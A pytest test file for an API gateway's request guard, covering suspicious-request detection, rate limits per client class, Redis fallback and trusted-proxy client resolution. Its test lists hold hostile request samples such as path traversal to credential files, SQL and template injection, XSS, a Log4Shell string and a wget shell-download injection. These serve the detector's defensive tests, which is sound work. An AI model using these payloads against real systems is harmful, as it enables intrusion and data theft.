"""The guard of the gateway, and whose request it is behind proxies."""

import asyncio
import socket
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest
from starlette.exceptions import HTTPException
from starlette.requests import Request
from starlette.responses import PlainTextResponse, Response
from starlette.routing import Route
from starlette.types import ASGIApp, Scope

from api_gateway.app import Gateway
from api_gateway.guard import Guard
from api_gateway.limits import CLASSES, WINDOW_SECONDS
from api_gateway.misses import THRESHOLD
from api_gateway.suspicion import MAX_LENGTH, REASONS, suspicion
from telemetry import SettingsError, Telemetry, Unreachable, onward, web
from telemetry.forwarded import Proxies
from telemetry.redis_store import RedisStore
from tests.unit.services.helpers import REFUSALS, Browser, LogLines, MakeTelemetry, RefusingRedis

GOOD = [
    "/api/records?table=orders",
    "/api/records/a..b",
    "/api/records?next=../orders",
    "/api/jobs/3f2a9c1e7b664b0f8a7d1c2e3f4a5b6c",
    "/api/records?q=trade+union+of+select+committees",
    "/api/records?q=the+union+select+committee",
    "/api/records?q=cats'+or+3+dogs",
    "/api/records?q=rock+'n'+roll+and+more",
    "/api/records?q=O'Brien+and+sons",
    "/api/records?q=drop+the+table;+then+sleep",
    "/api/records?q=;+cat+pictures",
    "/api/records?q=1+%3C+2+and+3+%3E+2",
    "/api/records?q=a+%3C+b+on+sale+%3D+cheap",
    "/api/records?q=50%25+off",
    "/api/records?q=javascript:+the+good+parts",
    "/api/records?q=%E6%97%A5%E6%9C%AC%E8%AA%9E",
    "/api/records?q=price+%24%7Bamount%7D",
    "/api/records?q=how+do+environments+work",
    "/api/tools/word_count",
    "/.well-known/security.txt",
    "/environment",
    "/api/wp-reports",
    "/robots.txt",
    "/favicon.ico",
    "/api/records?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc--def",
]
BAD = [
    ("/api/../../etc/passwd", "path_traversal"),
    ("/api/%2e%2e/etc", "path_traversal"),
    ("/api/..%5c..%5cwindows", "path_traversal"),
    ("/api/records?file=../../../../etc/passwd", "path_traversal"),
    ("/api/records?file=%252e%252e%252f%252e%252e%252fetc", "path_traversal"),
    ("/api/records?file=/etc/shadow", "path_traversal"),
    ("/.env", "scanner"),
    ("/api/.git/config", "scanner"),
    ("/.aws/credentials", "scanner"),
    ("/wp-login.php", "scanner"),
    ("/phpmyadmin/index.php", "scanner"),
    ("/cgi-bin/luci", "scanner"),
    ("/actuator/env", "scanner"),
    ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "scanner"),
    ("/api/records?table=x' OR '1'='1", "injection"),
    ("/api/records?id=1+UNION+SELECT+password+FROM+users", "injection"),
    ("/api/records?id=-1'/**/UNION/**/ALL/**/SELECT+1,2", "injection"),
    ("/api/records?id=1;DROP+TABLE+users", "injection"),
    ("/api/records?id=1+AND+pg_sleep(10)", "injection"),
    ("/api/records?q=%253Cscript%253Ealert(1)", "injection"),
    ("/api/records?q=%3Cimg+src=x+onerror=alert(1)%3E", "injection"),
    ("/api/records?q=%24%7Bjndi:ldap://x/a%7D", "injection"),
    ("/api/records?q=%7B%7B7*7%7D%7D", "injection"),
    ("/api/records?q=x;wget+http://x/sh", "injection"),
    ("/api/records?q=%24(whoami)", "injection"),
    ("/api/records?q=a%00.png", "injection"),
    ("/api/records?q=" + "a" * MAX_LENGTH, "oversized_url"),
]


def judged(url: str, method: str = "GET", agent: str = "Mozilla/5.0 (X11; Linux x86_64)") -> str | None:
    parts = urlsplit(url)
    return suspicion(method, parts.path, parts.query, agent)


@pytest.mark.parametrize("url", GOOD)
def test_what_people_ask_for_is_not_suspicious(url: str) -> None:
    assert judged(url) is None


@pytest.mark.parametrize(("url", "reason"), BAD, ids=[f"{reason}-{url[:50]}" for url, reason in BAD])
def test_what_attackers_ask_for_is_suspicious_by_its_reason(url: str, reason: str) -> None:
    assert judged(url) == reason


def test_a_scanning_tool_and_an_unknown_method_are_suspicious() -> None:
    assert judged("/api/records", agent="sqlmap/1.8#stable (https://sqlmap.org)") == "scanner"
    assert judged("/api/records", agent="python-httpx/0.28") is None
    assert judged("/api/records", method="PROPFIND") == "unknown_method"


def test_every_reason_has_a_case_or_a_test_of_its_own() -> None:
    tested_elsewhere = {"unknown_method", "oversized_body", "enumeration"}
    assert {reason for _url, reason in BAD} | tested_elsewhere == set(REASONS)


@pytest.mark.parametrize("text", ["<a " * 1300, "' or " * 800, "1 union " * 500, "((" * 2000, "/**/" * 1000])
def test_hostile_queries_are_judged_in_bounded_time(text: str) -> None:
    async def judge() -> None:
        async with asyncio.timeout(2):
            await asyncio.to_thread(suspicion, "GET", "/", text[:MAX_LENGTH])

    asyncio.run(judge())


class Counting(RedisStore):
    """The commands of the guard, counted in memory: what Redis does with them is seen on the running stack."""

    def __init__(self) -> None:
        self.counts: dict[str, int] = {}
        self.sets: dict[str, set[str]] = {}
        self.away = False

    async def call(self, command: str, *arguments: str | int | float) -> Any:
        return await self.call_quietly(command, *arguments)

    async def call_quietly(self, command: str, *arguments: str | int | float) -> Any:
        if self.away:
            raise Unreachable("redis", "refused")
        # Scripts alone: between two commands the gateway can end.
        assert command == "EVAL"
        key = str(arguments[2]).rpartition(":")[0]
        if key.startswith("rate:"):
            assert arguments[3:] == (WINDOW_SECONDS,)
            assert "EXPIRE" in str(arguments[0])
            self.counts[key] = self.counts.get(key, 0) + 1
            return self.counts[key]
        known = self.sets.setdefault(key, set())
        if str(arguments[3]) in known or len(known) >= int(arguments[4]):
            return 0
        known.add(str(arguments[3]))
        return len(known)


async def answer(_request: Request) -> Response:
    return PlainTextResponse("ok")


async def take(request: Request) -> Response:
    return PlainTextResponse(str(len(await web.read_body(request, 1000))))


def guarded(telemetry: Telemetry, store: RedisStore) -> ASGIApp:
    guard = Guard(telemetry, store)
    routes = [
        Route("/api/records", guard.around(answer), methods=["GET"]),
        Route("/api/session", guard.around(take), methods=["POST"]),
        Route("/webhooks/github", guard.around(take), methods=["POST"]),
    ]
    return guard.watch(telemetry.app(routes))


def limited(telemetry: Telemetry, kind: str) -> float | None:
    return telemetry.metrics.registry.get_sample_value("rate_limited_requests_total", {"client_class": kind})


def suspicious(telemetry: Telemetry, reason: str) -> float | None:
    return telemetry.metrics.registry.get_sample_value("suspicious_requests_total", {"reason": reason})


def test_a_client_over_its_limit_is_told_when_it_may_ask_again(make_telemetry: MakeTelemetry) -> None:
    telemetry = make_telemetry(RATE_LIMIT_ANONYMOUS="2")
    http = Browser(guarded(telemetry, Counting()))
    answers = [http.get("/api/records") for _ in range(3)]
    assert [one.status_code for one in answers] == [200, 200, 429]
    assert [one.headers["x-ratelimit-remaining"] for one in answers] == ["1", "0", "0"]
    assert {one.headers["x-ratelimit-limit"] for one in answers} == {"2"}
    assert "retry-after" not in answers[0].headers
    assert answers[2].headers["retry-after"] == answers[2].headers["x-ratelimit-reset"]
    assert 1 <= int(answers[2].headers["retry-after"]) <= 60
    assert answers[2].json()["error"]["code"] == "rate_limited"
    assert limited(telemetry, "anonymous") == 1


def test_each_class_of_client_has_a_limit_of_its_own(make_telemetry: MakeTelemetry) -> None:
    telemetry = make_telemetry(RATE_LIMIT_ANONYMOUS="1", RATE_LIMIT_LOGIN="2", RATE_LIMIT_WEBHOOK="3")
    http = Browser(guarded(telemetry, Counting()))
    assert http.get("/api/records").headers["x-ratelimit-limit"] == "1"
    session = http.get("/api/records", headers={"authorization": "Bearer abcdefgh"})
    assert session.headers["x-ratelimit-limit"] == str(CLASSES["session"])
    assert [http.post("/api/session", content=b"x").status_code for _ in range(3)] == [200, 200, 429]
    assert http.post("/webhooks/github", content=b"x").headers["x-ratelimit-limit"] == "3"
    assert {kind: limited(telemetry, kind) for kind in CLASSES} == {
        "anonymous": 0,
        "session": 0,
        "login": 1,
        "webhook": 0,
    }


@pytest.mark.parametrize("limit", ["0", "0.5", "1.5"])
def test_a_limit_that_refuses_everyone_or_is_no_count_is_refused(make_telemetry: MakeTelemetry, limit: str) -> None:
    with pytest.raises(SettingsError, match=f"^RATE_LIMIT_LOGIN={limit}: must be a whole number of at least 1$"):
        guarded(make_telemetry(RATE_LIMIT_LOGIN=limit), Counting())


def test_without_redis_requests_pass_unlimited(make_telemetry: MakeTelemetry) -> None:
    telemetry = make_telemetry(RATE_LIMIT_ANONYMOUS="1")
    store = Counting()
    store.away = True
    http = Browser(guarded(telemetry, store))
    answers = [http.get("/api/records") for _ in range(3)]
    assert {one.status_code for one in answers} == {200}
    assert "x-ratelimit-limit" not in answers[0].headers
    assert http.get("/nothing").status_code == 404


@pytest.mark.parametrize("said", REFUSALS)
def test_while_redis_refuses_writes_requests_pass_unlimited(make_telemetry: MakeTelemetry, said: str) -> None:
    telemetry = make_telemetry(RATE_LIMIT_ANONYMOUS="1")
    store = RedisStore("redis://127.0.0.1:1/0", None, telemetry.tracing, telemetry.breakers)
    store._redis = RefusingRedis(said)
    http = Browser(guarded(telemetry, store))
    assert {http.get("/api/records").status_code for _ in range(3)} == {200}
    assert http.get("/nothing").status_code == 404


def test_a_suspicious_request_is_counted_and_logged_with_its_correlation_id_and_not_refused(
    make_telemetry: MakeTelemetry, log_lines: LogLines
) -> None:
    telemetry = make_telemetry()
    http = Browser(guarded(telemetry, Counting()))
    asked = http.get("/api/records?id=1;drop+table+x", headers={"x-correlation-id": "visit-0001"})
    assert asked.status_code == 200
    assert http.post("/api/session", content=b"x" * 2000).status_code == 413
    assert suspicious(telemetry, "injection") == 1
    assert suspicious(telemetry, "oversized_body") == 1
    line = next(line for line in log_lines() if line["message"] == "suspicious request")
    assert (line["reason"], line["correlation_id"], line["level"]) == ("injection", "visit-0001", "warning")


def test_many_different_misses_of_one_client_are_one_enumeration(make_telemetry: MakeTelemetry) -> None:
    telemetry = make_telemetry()
    http = Browser(guarded(telemetry, Counting()))
    for _ in range(2 * THRESHOLD):
        http.get("/broken-link")
    assert suspicious(telemetry, "enumeration") == 0
    for number in range(2 * THRESHOLD):
        http.get(f"/api/records/{number}")
    assert suspicious(telemetry, "enumeration") == 1


class Echo:
    """A service behind the gateway or the frontend, which remembers the targets that it was asked for."""

    def __init__(self) -> None:
        self.asked: list[str] = []

    @asynccontextmanager
    async def stream(self, _method: str, url: httpx.URL, **_options: Any) -> AsyncIterator[httpx.Response]:
        self.asked.append(url.raw_path.decode())
        yield httpx.Response(200, json={})


def passing(telemetry: Telemetry) -> tuple[Browser, Echo]:
    """The handler that passes jobs on, and what is behind it."""
    echo = Echo()
    telemetry.client = lambda *_: echo  # type: ignore[assignment, method-assign]
    gateway = Gateway(telemetry)
    jobs = Route("/api/jobs/{job}", gateway.to("automation-services", "/jobs/{job}"), methods=["GET"])
    return Browser(telemetry.app([jobs])), echo


@pytest.mark.parametrize(
    ("url", "target"),
    [
        ("/api/jobs/one", "/jobs/one"),
        ("/api/jobs/%3Fx", "/jobs/%3Fx"),
        ("/api/jobs/a%23b", "/jobs/a%23b"),
        ("/api/jobs/%252e%252e", "/jobs/%252e%252e"),
        ("/api/jobs/%C3%BC", "/jobs/%C3%BC"),
        ("/api/jobs/one?a=1&b=%20", "/jobs/one?a=1&b=%20"),
    ],
)
def test_a_parameter_of_a_path_stays_one_segment(make_telemetry: MakeTelemetry, url: str, target: str) -> None:
    http, echo = passing(make_telemetry())
    assert http.get(url).status_code == 200
    assert echo.asked == [target]


@pytest.mark.parametrize("url", ["/api/jobs/%00", "/api/jobs/a%0ab", "/api/jobs/%7f", "/api/jobs/%2e%2e"])
def test_a_path_that_cannot_be_is_not_found(make_telemetry: MakeTelemetry, url: str) -> None:
    http, echo = passing(make_telemetry())
    assert http.get(url).status_code == 404
    assert echo.asked == []


def test_a_query_is_passed_on_as_bytes_that_a_url_may_have() -> None:
    assert onward.url("/x", b"a=\xff\x01&b='%20'").raw_path == b"/x?a=%FF%01&b='%20'"
    with pytest.raises(HTTPException) as caught:
        onward.url("/x", b"\xff" * onward.MAX_LENGTH)
    assert caught.value.status_code == 414


def scope(peer: str, *forwarded: str) -> Scope:
    return {"type": "http", "client": (peer, 1), "headers": [(b"x-forwarded-for", one.encode()) for one in forwarded]}


def looked_up(telemetry: Telemetry) -> Proxies:
    proxies = Proxies(telemetry.settings)
    asyncio.run(proxies.look_up())
    return proxies


@pytest.mark.parametrize(
    ("said", "client"),
    [
        ([], "10.0.0.1"),
        (["203.0.113.9"], "203.0.113.9"),
        (["1.2.3.4, 203.0.113.9"], "203.0.113.9"),
        (["203.0.113.9, 10.0.0.2"], "203.0.113.9"),
        (["203.0.113.9", "10.0.0.2"], "203.0.113.9"),
        (["not an address"], "10.0.0.1"),
        (["2001:db8::1"], "2001:db8::1"),
    ],
)
def test_the_client_is_who_a_trusted_proxy_says(make_telemetry: MakeTelemetry, said: list[str], client: str) -> None:
    proxies = looked_up(make_telemetry(TRUSTED_PROXIES="10.0.0.1, 10.0.0.2"))
    assert proxies.client(scope("10.0.0.1", *said)) == client


def test_a_stranger_cannot_say_whose_request_it_is(make_telemetry: MakeTelemetry) -> None:
    assert looked_up(make_telemetry()).client(scope("10.0.0.1", "203.0.113.9")) == "10.0.0.1"
    trusting = looked_up(make_telemetry(TRUSTED_PROXIES="localhost,no-such-host.invalid"))
    assert trusting.client(scope("10.0.0.1", "203.0.113.9")) == "10.0.0.1"
    assert trusting.client(scope(socket.gethostbyname("localhost"), "203.0.113.9")) == "203.0.113.9"
